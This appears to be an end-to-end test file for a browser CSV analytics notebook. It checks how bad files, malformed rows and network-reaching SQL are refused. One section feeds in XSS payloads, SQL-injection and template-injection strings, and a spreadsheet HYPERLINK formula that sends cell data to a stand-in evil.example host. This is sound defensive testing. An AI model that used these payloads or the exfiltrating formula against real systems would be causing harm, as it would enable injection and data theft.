import type { Page } from 'playwright-core';
import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { openPage, type OpenedPage } from './support/browser';
import { dropMadeFiles, type MadeFile } from './support/drop';
import {
  block,
  cell,
  dropForMapping,
  drawer,
  openNotebook,
  savedBy,
  settle,
  waitForCells,
  waitForRows,
} from './support/notebook';
import { sharedJson } from './support/shared-data';
import { shopFindings } from './support/shop';

/** A statement that ends DuckDB 1.4.3 in the browser: `memory access out of bounds`. */
const TRAP = "SELECT repeat('x', 4000000000)";

const HEADER = 'order_id,customer_id,ordered_at,amount';

function rows(count: number, row: (index: number) => string): string {
  return [HEADER, ...Array.from({ length: count }, (_, index) => row(index)), ''].join('\n');
}

function plainRow(index: number): string {
  return `${100 + index},c${index % 7},2024-01-${String(1 + (index % 28)).padStart(2, '0')},${10 + index}.50`;
}

function issue(page: Page, code: string): ReturnType<Page['locator']> {
  return page.locator(`[data-issue="${code}"]`);
}

/** What an issue says, in English and then in Chinese; the page is English before and after. */
async function inBothLanguages(page: Page, code: string): Promise<{ en: string; zh: string }> {
  await issue(page, code).first().waitFor();
  const en = await issue(page, code).first().innerText();
  await page.getByTestId('switch-language').click();
  await page.waitForFunction(() => document.documentElement.lang.startsWith('zh'));
  const zh = await issue(page, code).first().innerText();
  await page.getByTestId('switch-language').click();
  await page.waitForFunction(() => document.documentElement.lang === 'en');
  expect(zh).toMatch(/[\u4e00-\u9fff]/);
  return { en, zh };
}

/** The first bytes of every Excel workbook: a zip archive whose first entry names its content. */
const XLSX = Buffer.concat([
  Buffer.from([
    0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 19, 0, 0,
    0,
  ]),
  Buffer.from('[Content_Types].xml xl/workbook.xml'),
  Buffer.from(Array.from({ length: 400 }, (_, index) => (index * 37) % 256)),
]);

describe('a file that cannot be used', () => {
  let opened: OpenedPage;
  let page: Page;
  let before = '';

  beforeAll(async () => {
    opened = await openPage({ until: 'file' });
    page = opened.page;
    await openNotebook(page);
    await settle(page);
    before = await block(page, 'import.metrics').innerText();
  });

  const refused: readonly (readonly [code: string, file: MadeFile, en: RegExp, zh: RegExp])[] = [
    [
      'empty-file',
      { name: 'nothing.csv', content: '' },
      /nothing\.csv is empty.*Export it again/,
      /nothing\.csv/,
    ],
    [
      'header-only',
      { name: 'head.csv', content: `${HEADER}\n` },
      /head\.csv has a header and no rows/,
      /head\.csv/,
    ],
    [
      'binary-file',
      { name: 'report.csv', content: '%PDF-1.4 of a report' },
      /report\.csv is not a text file but a PDF.*as CSV/,
      /report\.csv.*PDF/,
    ],
    [
      'archive-damaged',
      { name: 'book.csv', content: XLSX },
      /book\.csv is damaged.*export it again/,
      /book\.csv/,
    ],
  ];

  test.for(refused)('is refused in words (%s), and the open notebook stays', async ([code, file, en, zh]) => {
    await dropMadeFiles(page, [file]);
    const words = await inBothLanguages(page, code);
    expect(words.en).toMatch(en);
    expect(words.zh).toMatch(zh);
    expect(await page.getByTestId('notices').innerText()).toContain('What was open before is unchanged.');
    expect(await block(page, 'import.metrics').innerText()).toBe(before);
    const report = await page.evaluate(
      async ({ name, bytes }) => window.clientele.open([new File([new Uint8Array(bytes)], name)]),
      { name: file.name, bytes: [...Buffer.from(file.content)] },
    );
    expect(report).toMatchObject({
      ok: false,
      tables: [],
      run: null,
      issues: [{ code, level: 'error', file: file.name }],
    });
    expect(
      await page.evaluate(() => window.clientele.sql('SELECT count(*)::INTEGER AS n FROM customers')),
    ).toEqual([{ n: shopFindings().customers }]);
    await page.getByTestId('notices').getByRole('button', { name: 'Close' }).first().click();
    await page.getByTestId('notices').waitFor({ state: 'detached' });
  });

  test('is refused on the first page as well', async () => {
    const first = await openPage({ locale: 'zh-CN' });
    await dropMadeFiles(first.page, [{ name: '空.csv', content: '' }]);
    expect(await issue(first.page, 'empty-file').innerText()).toContain('空.csv');
    expect(await first.page.getByTestId('open-files').count()).toBe(1);
    await first.expectQuiet();
  });

  test('leaves the notebook when a second file is looked at and put away', async () => {
    await dropForMapping(page, { name: 'second.csv', content: rows(40, plainRow) });
    await page.getByRole('button', { name: 'Cancel' }).click();
    await waitForCells(page);
    expect(await block(page, 'import.metrics').innerText()).toBe(before);
    expect(
      await page.evaluate(() => window.clientele.sql('SELECT count(*)::INTEGER AS n FROM customers')),
    ).toEqual([{ n: shopFindings().customers }]);
  });

  test('makes nobody complain', async () => {
    await opened.expectQuiet();
  });
});

describe('a file that can be read in part', () => {
  let opened: OpenedPage;
  let page: Page;

  beforeAll(async () => {
    opened = await openPage({ until: 'file' });
    page = opened.page;
  });

  /** The rejected rows: on screen through the issue's own button, and as a saved file. */
  async function rejected(code: string): Promise<{ count: number; csv: string[] }> {
    await issue(page, code).getByRole('button', { name: 'Not readable' }).click();
    const count = await waitForRows(page);
    const { text } = await savedBy(page, () => page.getByTestId('export-csv').click());
    await page.keyboard.press('Escape');
    return { count, csv: text.replace('\uFEFF', '').trimEnd().split('\r\n') };
  }

  test('without a customer: says so before and after, and shows what the file holds', async () => {
    const content = [
      'ordered_at,amount',
      ...Array.from(
        { length: 40 },
        (_, day) => `2024-02-${String(1 + (day % 28)).padStart(2, '0')},${day + 0.25}`,
      ),
      '',
    ].join('\n');
    await dropForMapping(page, { name: 'till.csv', content });
    const words = await inBothLanguages(page, 'no-customer-column');
    expect(words.en).toMatch(/No column of till\.csv looks like a customer\. Choose one under/);
    expect(words.zh).toContain('till.csv');
    await page.getByTestId('analyse').click();
    await waitForCells(page, ['import']);
    await page.waitForSelector('section[data-cell="rfm"][data-status="failed"]');
    expect(await cell(page, 'rfm').locator('[data-error="missing-role"]').innerText()).toContain('Customer');
    expect(await block(page, 'import.metrics').innerText()).toContain('40');
    await settle(page);
  });

  test('with dates that half the rows do not have: reads the others, lists these', async () => {
    const content = rows(60, (index) =>
      index % 2 === 0 ? plainRow(index) : plainRow(index).replace(/2024-01-\d\d/, `pending ${index}`),
    );
    await dropForMapping(page, { name: 'half.csv', content });
    if ((await page.locator('[data-column="ordered_at"]').getAttribute('data-role')) === 'ordered_at') {
      const sample = await inBothLanguages(page, 'unreadable-dates');
      expect(sample.en).toMatch(/half\.csv, column “ordered_at”: only 50.* line 3 says “pending 1”/);
      expect(sample.zh).toMatch(/half\.csv.*ordered_at.*3.*pending 1/);
    }
    await page.getByTestId('analyse').click();
    await waitForCells(page);
    await settle(page);
    const words = await inBothLanguages(page, 'unreadable-dates');
    expect(words.en).toMatch(
      /half\.csv, column “ordered_at”: 30 values are no readable date, first in line 3 \(“pending 1”\)/,
    );
    expect(words.zh).toMatch(/half\.csv.*ordered_at.*30.*3.*pending 1/);
    const { count, csv } = await rejected('unreadable-dates');
    expect(count).toBe(30);
    expect(csv).toHaveLength(31);
    expect(csv[1]).toMatch(/^3,.*ordered_at.*pending 1$/);
    const ledger = await page.evaluate(() => window.clientele.ledger());
    expect(ledger).toMatchObject({ fileRows: 60, setAside: 0, lines: 60, countedLines: 30 });
  });

  test('with rows out of shape: sets them aside, counted and listed', async () => {
    const broken = new Map([
      [10, '110,c1'],
      [20, '120,c2,2024-01-03,7.50,more,and more'],
      [30, '130,c3,2024-01-04,8.50,extra'],
    ]);
    const content = rows(50, (index) => broken.get(index) ?? plainRow(index));
    await openNotebook(page, { name: 'ragged.csv', content });
    await settle(page);
    const words = await inBothLanguages(page, 'unreadable-rows');
    expect(words.en).toMatch(/ragged\.csv: 3 rows do not fit the columns, first in line 12 \(“110,c1”\)/);
    expect(words.zh).toMatch(/ragged\.csv.*3.*12.*110,c1/);
    const { count, csv } = await rejected('unreadable-rows');
    expect(count).toBe(3);
    expect(csv.map((line) => line.split(',')[0])).toEqual(['line', '12', '22', '32']);
    expect(csv.join('\n')).toContain('and more');
    const ledger = await page.evaluate(() => window.clientele.ledger());
    expect(ledger).toMatchObject({ fileRows: 50, setAside: 3, lines: 47 });
    expect(await issue(page, 'row-count-differs').count()).toBe(0);
  });

  test('makes nobody complain', async () => {
    await opened.expectQuiet();
  });
});

describe('names and values that try to be something else', () => {
  const OWN = [
    '<img src=x onerror="window.attacked=1">',
    '<script>window.attacked=1</script>',
    '"><svg onload=alert(1)>',
    'javascript:alert(1)',
    "'; DROP TABLE orders; --",
    '{{constructor.constructor("window.attacked=1")()}}',
    '${window.attacked=1}',
    '=HYPERLINK("https://evil.example/?"&A1)',
    '\u202Etxt.exe',
    'a\u200Bb',
    '<a href="https://evil.example">x</a>',
    '__proto__',
  ];
  const payloads = sharedJson<{ payload: string }[]>('data', 'attacks', 'html-xss', 'payloads.json')?.map(
    ({ payload }) => payload,
  );
  const naughty = sharedJson<string[]>('data', 'attacks', 'blns', 'blns.json');
  /** What an export writes where there is no customer: read as missing, not as a name. */
  const MISSING = /^(\(?null\)?|-+)$/i;
  const strings = [...new Set([...OWN, ...(payloads ?? []), ...(naughty ?? [])])].filter(
    (text) => text.trim() !== '' && !/[\0\r\n]/.test(text) && text === text.trim() && !MISSING.test(text),
  );

  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

  /** A file with the strings as headers, customers, categories and regions. */
  function hostileFile(name: string, all: readonly string[]): MadeFile {
    const header = [
      'order_id',
      'customer_id',
      'ordered_at',
      'amount',
      'category',
      'region',
      ...OWN.map(quoted),
    ];
    const lines = all.flatMap((text, index) =>
      [0, 1].map((again) =>
        [
          `${1000 + 2 * index + again}`,
          quoted(text),
          `2024-0${1 + (index % 9)}-1${again}`,
          `${index + 1}.5`,
          quoted(text),
          quoted(OWN[index % OWN.length] ?? ''),
          ...OWN.map((_, column) => `${index + column}`),
        ].join(','),
      ),
    );
    return { name, content: [header.join(','), ...lines, ''].join('\n') };
  }

  const from = naughty && payloads ? 'and the public lists of them' : '(only ours: ../shared is not there)';
  test(`are shown as they are: ${strings.length} strings as header, customer, category, file name ${from}`, async () => {
    const opened = await openPage();
    const { page } = opened;
    const name = `${OWN[0]}.csv`;
    await dropForMapping(page, hostileFile(name, strings));
    expect(await page.getByTestId('mapping').innerText()).toContain(name);
    const columns = await page
      .locator('[data-column]')
      .evaluateAll((all) => all.map((row) => row.querySelector('.name strong')?.textContent));
    for (const text of OWN) expect(columns).toContain(text);
    await page.getByTestId('analyse').click();
    await waitForCells(page);
    await settle(page);
    const stored = await page.evaluate(() => window.clientele.sql('SELECT customer_id FROM customers'));
    expect(stored.map((row) => row['customer_id']).sort()).toEqual([...strings].sort());
    expect(await page.title()).toContain(OWN[0]);

    await cell(page, 'abc')
      .getByRole('button', { name: /^Rows \d/ })
      .click();
    await waitForRows(page);
    const shown = await drawer(page)
      .locator('[role=gridcell][aria-colindex="1"]')
      .evaluateAll((cells) => cells.map((each) => each.textContent?.trim()));
    expect(shown.length).toBeGreaterThan(5);
    for (const text of shown) expect(strings).toContain(text);
    const { text } = await savedBy(page, () => page.getByTestId('export-csv').click());
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`);
    await page.keyboard.press('Escape');

    await page
      .getByRole('navigation')
      .getByRole('button', { name: /^Order lines/ })
      .click();
    await waitForRows(page);
    const headers = await drawer(page).getByRole('columnheader').allTextContents();
    for (const hostile of OWN) expect(headers.map((header) => header.trim())).toContain(hostile);
    await page.keyboard.press('Escape');

    await page.getByTestId('switch-language').click();
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
    expect(
      await page.locator('[onerror], [onload], main script, main iframe, main img, main a[href]').count(),
    ).toBe(0);
    await opened.expectQuiet();
  });
});

describe('SQL that a person wrote', () => {
  let opened: OpenedPage;
  let page: Page;

  beforeAll(async () => {
    opened = await openPage({ until: 'file' });
    page = opened.page;
    await openNotebook(page);
    await settle(page);
  });

  /** The code it is refused with, or null. */
  function refusal(query: string): Promise<string | null> {
    return page.evaluate(
      (text) =>
        window.clientele.sql(text).then(
          () => null,
          (error: { code?: string }) => error.code ?? 'no code',
        ),
      query,
    );
  }

  beforeEach(async () => {
    await page.evaluate(() => window.clientele.sql('SELECT 1'));
  });

  test.for([
    'SELECT current_date',
    "SELECT * FROM read_parquet('x.parquet')",
    "SELECT * FROM read_csv('https://elsewhere.example/?d=1')",
    "SELECT * FROM 'https://elsewhere.example/a.csv'",
    "ATTACH 'https://elsewhere.example/x.db'",
    'INSTALL httpfs',
    "SELECT '{}'::JSON",
    "SELECT now() AT TIME ZONE 'UTC'",
    "SELECT date_trunc('day', t) FROM (SELECT now() AS t)",
  ])('is refused as needing the network, and the page lives on: %s', async (query) => {
    expect(await refusal(query)).toBe('needs-network');
    const { customers } = shopFindings();
    expect(await page.evaluate(() => window.clientele.sql('SELECT count(*)::INTEGER AS n FROM rfm'))).toEqual(
      [{ n: customers }],
    );
  });

  test.for([
    ['SET enable_external_access = true', 'not-allowed'],
    ["SELECT * FROM read_csv('../secret.csv')", 'not-allowed'],
    ['SELEC 1', 'syntax'],
    ['SELECT nothing FROM rfm', 'unknown-name'],
    ["SELECT 'a'::INTEGER", 'conversion'],
  ] as const)('is refused with a code: %s', async ([query, code]) => {
    expect(await refusal(query)).toBe(code);
  });

  test('takes values as values', async () => {
    const found = await page.evaluate(() =>
      window.clientele.sql('SELECT count(*)::INTEGER AS n FROM rfm WHERE customer_id = ?', ["' OR 1=1 --"]),
    );
    expect(found).toEqual([{ n: 0 }]);
  });

  test('sends nothing anywhere', async () => {
    await opened.expectQuiet();
  });

  test('that ends the database costs nothing: it starts again and the data is back', async ({ skip }) => {
    await page.evaluate(() => window.clientele.set('rfm', { bins: 4 }));
    const before = await page.evaluate(() => window.clientele.sql('SELECT * FROM rfm ORDER BY customer_id'));
    const code = await refusal(TRAP);
    skip(code !== 'trap', `this build does not trap any more: ${TRAP} gives ${code}`);
    const after = await page.evaluate(() => window.clientele.sql('SELECT * FROM rfm ORDER BY customer_id'));
    expect(after).toEqual(before);
    await issue(page, 'restarted').waitFor();
    await waitForCells(page);
    expect(await block(page, 'import.metrics').innerText()).toContain(String(shopFindings().counted));
  });
});
